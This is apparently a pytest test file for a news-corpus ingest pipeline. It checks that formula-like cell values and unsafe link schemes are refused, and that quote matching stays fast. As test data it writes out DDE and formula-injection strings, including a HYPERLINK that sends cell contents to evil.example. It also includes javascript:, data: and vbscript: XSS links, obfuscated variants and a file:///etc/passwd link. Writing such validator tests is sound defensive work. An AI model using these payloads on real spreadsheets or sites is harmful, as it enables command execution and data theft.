"""Hardening: what may reach a published cell (pipelines/ingest/safety.py), and the nearest
passage of a quote that does not match, in bounded time (pipelines/ingest/anchoring.py)."""

import json
import random
import shutil
import time

import pytest

from pipelines.cli import main
from pipelines.ingest.anchoring import AnchorFailure, anchor_quote, describe_differences
from pipelines.ingest.safety import formula_risk, link_problem, url_problem

from conftest import FIXTURE, edit, line_of  # noqa: E402

SOURCE = "sources/news/2024-03-04-fixture-strait-talks"
ANNOTATIONS = f"{SOURCE}/annotations.yaml"
METADATA = f"{SOURCE}/source.yaml"


@pytest.fixture
def root(tmp_path):
    dest = tmp_path / "corpus"
    shutil.copytree(FIXTURE, dest)
    return dest


def validate(capsys, root):
    code = main(["--root", str(root), "validate", "--format", "json"])
    return code, json.loads(capsys.readouterr().out)["problems"]


# --- formulas -------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "=cmd|' /C calc'!A0", "=", "=1+1", "@SUM(A1:A2)",
    "@UKHomeOffice said", "\t=1+1", "\rx", "  =1+1", "\uff1dSUM(A1)", "-1+HYPERLINK(\"http://x\")",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "- x (y)", "+\uff08x",
])
def test_formula_like_text_is_refused(text):
    assert formula_risk(text)


@pytest.mark.parametrize("text", [
    "-", "-60%", "+13 per cent", "- 40 people were rescued", "-0.5", "+972 Magazine", "−60% (U+2212 minus)",
    "More than 28,000 people (a record)", "a = b", "e-mail me @ home", "", "   ", "Calais | Dover", "60%-70%",
    "'=not a formula'", "\u00a0=x",  # a no-break space is not stripped by spreadsheets: the cell is text
])
def test_plausible_real_text_is_not_refused(text):
    assert formula_risk(text) is None


def test_formula_in_an_annotation_field_is_refused_with_file_and_line(root, capsys):
    edit(root, ANNOTATIONS, "location: ", "location: \"=HYPERLINK(\\\"http://evil.example\\\")\"\n    notes: ")
    code, problems = validate(capsys, root)
    assert code == 1
    [problem] = [p for p in problems if p["code"] == "bad-value"]
    assert problem["path"] == ANNOTATIONS and problem["line"] == line_of(root, ANNOTATIONS, "=HYPERLINK")
    assert "location starts with '='" in problem["message"] and "do not start the value" in problem["hint"]


def test_formula_in_source_metadata_and_registry_is_refused(root, capsys):
    edit(root, METADATA, "publisher: Fixture Times", "publisher: \"=cmd|' /C calc'!A0\"")
    registry = root / "sources/registry/people.yaml"
    text = registry.read_text(encoding="utf-8")
    name_line = next(line for line in text.splitlines() if line.strip().startswith("name:"))
    registry.write_text(text.replace(name_line, name_line.split("name:")[0] + "name: \"@SUM(A1)\"", 1),
                        encoding="utf-8")
    code, problems = validate(capsys, root)
    assert code == 1
    found = {(p["path"], p["line"]) for p in problems if p["code"] == "bad-value" and "formula" in p["message"]}
    assert (METADATA, line_of(root, METADATA, "publisher:")) in found
    assert ("sources/registry/people.yaml", line_of(root, "sources/registry/people.yaml", "@SUM")) in found


def test_plausible_values_still_validate(root, capsys):
    edit(root, METADATA, "publisher: Fixture Times", "publisher: +972 Magazine")
    code, problems = validate(capsys, root)
    assert (code, problems) == (0, [])


def test_formula_like_quote_is_refused(root, capsys):
    article = root / SOURCE / "article.html"
    article.write_bytes(article.read_bytes() + b"<p>=HYPERLINK(1) was typed.</p>\n")
    import hashlib

    meta = (root / METADATA).read_text(encoding="utf-8")
    old = next(line for line in meta.splitlines() if line.startswith("raw_sha256:"))
    (root / METADATA).write_text(meta.replace(old, "raw_sha256: " + hashlib.sha256(article.read_bytes()).hexdigest()),
                                 encoding="utf-8")
    edit(root, ANNOTATIONS, "      - met Ben Example in London on Monday\n",
         "      - met Ben Example in London on Monday\n      - \"=HYPERLINK(1) was typed.\"\n")
    code, problems = validate(capsys, root)
    assert code == 1
    assert any(p["line"] == line_of(root, ANNOTATIONS, "=HYPERLINK") and "formula" in p["message"] for p in problems)


# --- links ----------------------------------------------------------------------------------

@pytest.mark.parametrize("href", [
    "https://example.org/a", "http://example.org", "HTTPS://EXAMPLE.ORG", "mailto:desk@example.org", "/news/x",
    "#top", "other.html", "//example.org/x", "?page=2", "", "https://example.org/a?b=c&d=-1",
])
def test_web_mail_and_relative_links_are_kept(href):
    assert link_problem(href) is None


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", "java\nscript:x", "data:text/html,<script>x</script>", "vbscript:x",
    "file:///etc/passwd",
    "ftp://example.org", "=cmd|' /C calc'!A0", "@x", "https://exa\x00mple.org",
])
def test_script_and_other_links_are_not_taken(href):
    assert link_problem(href)


@pytest.mark.parametrize("url, ok", [
    ("https://example.org/news/1", True), ("http://example.org", True), ("javascript:alert(1)", False),
    ("example.org/news", False), ("https:example.org", False), ("https://example.org/a b", False),
    ("ftp://example.org", False), (" https://example.org", False),
])
def test_source_url_must_be_http_or_https(url, ok):
    assert (url_problem(url) is None) == ok


def test_javascript_source_url_is_refused_with_its_line(root, capsys):
    edit(root, METADATA, "url: https://example.org/fixture-strait-talks", "url: javascript:alert(1)")
    code, problems = validate(capsys, root)
    assert code == 1
    [problem] = [p for p in problems if p["code"] == "bad-value"]
    assert problem["path"] == METADATA and problem["line"] == line_of(root, METADATA, "url:")
    assert "not an http:// or https:// address" in problem["message"]


# --- the nearest passage, in bounded time -----------------------------------------------------

WORDS = ("the of and boats people crossed channel minister said home office rescued died coast guard french "
         "british talks agreement returns Calais Dover on Friday night").split()


def synthetic_article(size: int, seed: int) -> str:
    rnd = random.Random(seed)
    out, length = [], 0
    while length < size:
        sentence = " ".join(rnd.choice(WORDS) for _ in range(rnd.randint(8, 25))).capitalize() + ". "
        out.append(sentence)
        length += len(sentence)
    return "".join(out)[:size]


def timed(text, quote):
    start = time.perf_counter()
    result = anchor_quote(text, quote)
    return result, time.perf_counter() - start


@pytest.mark.parametrize("every", [500, 100])
def test_long_near_miss_quote_in_a_long_article_is_fast_and_still_suggests(every):
    text = synthetic_article(200_000, seed=7)
    quote = list(text[100_000:106_000])  # 6 KB, a character changed every `every`
    for k in range(every // 2, len(quote), every):
        quote[k] = "#"
    quote = "".join(quote)
    result, seconds = timed(text, quote)
    assert seconds < 5, f"{seconds:.1f} s"  # about 0.2-0.7 s here; 102 s before the bound
    assert isinstance(result, AnchorFailure) and result.code == "quote-not-found"
    assert "the nearest passage differs" in result.message and "where the quote has '#'" in result.message
    assert result.excerpt == text[100_000:106_000]


def test_long_unrelated_quote_in_a_long_article_is_fast():
    text = synthetic_article(200_000, seed=7)
    rnd = random.Random(3)
    for quote in ("".join(rnd.choice("abcdefghijklmnopqrstuvwxyz ,.") for _ in range(6000)),
                  synthetic_article(6000, seed=11)):  # same words, other sentences
        result, seconds = timed(text, quote)
        assert seconds < 5, f"{seconds:.1f} s"
        assert result.code == "quote-not-found" and "nothing" in result.message


def test_long_quote_through_validate_is_fast(root, capsys):
    article = root / SOURCE / "article.html"
    body = synthetic_article(200_000, seed=5)
    article.write_bytes(article.read_bytes() + f"<p>{body}</p>\n".encode())
    import hashlib

    meta = (root / METADATA).read_text(encoding="utf-8")
    old = next(line for line in meta.splitlines() if line.startswith("raw_sha256:"))
    (root / METADATA).write_text(meta.replace(old, "raw_sha256: " + hashlib.sha256(article.read_bytes()).hexdigest()),
                                 encoding="utf-8")
    quote = body[50_000:56_000].replace("e", "#", 20)
    edit(root, ANNOTATIONS, "      - met Ben Example in London on Monday\n",
         f"      - met Ben Example in London on Monday\n      - {json.dumps(quote)}\n")
    start = time.perf_counter()
    code, problems = validate(capsys, root)
    seconds = time.perf_counter() - start
    assert seconds < 10, f"{seconds:.1f} s"
    assert code == 1
    [problem] = [p for p in problems if p["code"] == "quote-not-found"]
    assert problem["line"] > 0 and "nearest passage" in problem["message"]


def test_ordinary_differences_are_named_as_before():
    assert describe_differences('the "returns deal"', "the \u201creturns deal\u201d") == \
        "text has left double quote \u201c where the quote has straight double quote \"; " \
        "text has right double quote \u201d where the quote has straight double quote \""
    long_gap = describe_differences("a" + "x" * 100 + "b", "ab")
    assert "(100 characters)" in long_gap and len(long_gap) < 200


def test_only_web_mail_and_relative_links_of_an_html_article_become_data():
    from pipelines.ingest.canonical import canonical_text

    html = ('<p><a href="https://example.org/a">web</a> <a href="javascript:alert(1)">script</a> '
            '<a href="java\tscript:alert(1)">split</a> <a href="/b">relative</a> '
            '<a href="mailto:x@example.org">mail</a> <a href="https://example.org/c">=HYPERLINK(1)</a></p>')
    _, links = canonical_text(html.encode(), "html")
    assert [link.href for link in links] == ["https://example.org/a", "/b", "mailto:x@example.org"]


def test_a_link_with_a_line_break_or_a_hidden_formula_is_not_published():
    from pipelines.ingest.canonical import canonical_text

    html = b'<a href="&#10;=cmd|\' /C calc\'!A0">the report</a> <a href="https://example.org/x">ok</a>'
    _, links = canonical_text(html, "html")
    assert [link.href for link in links] == ["https://example.org/x"]
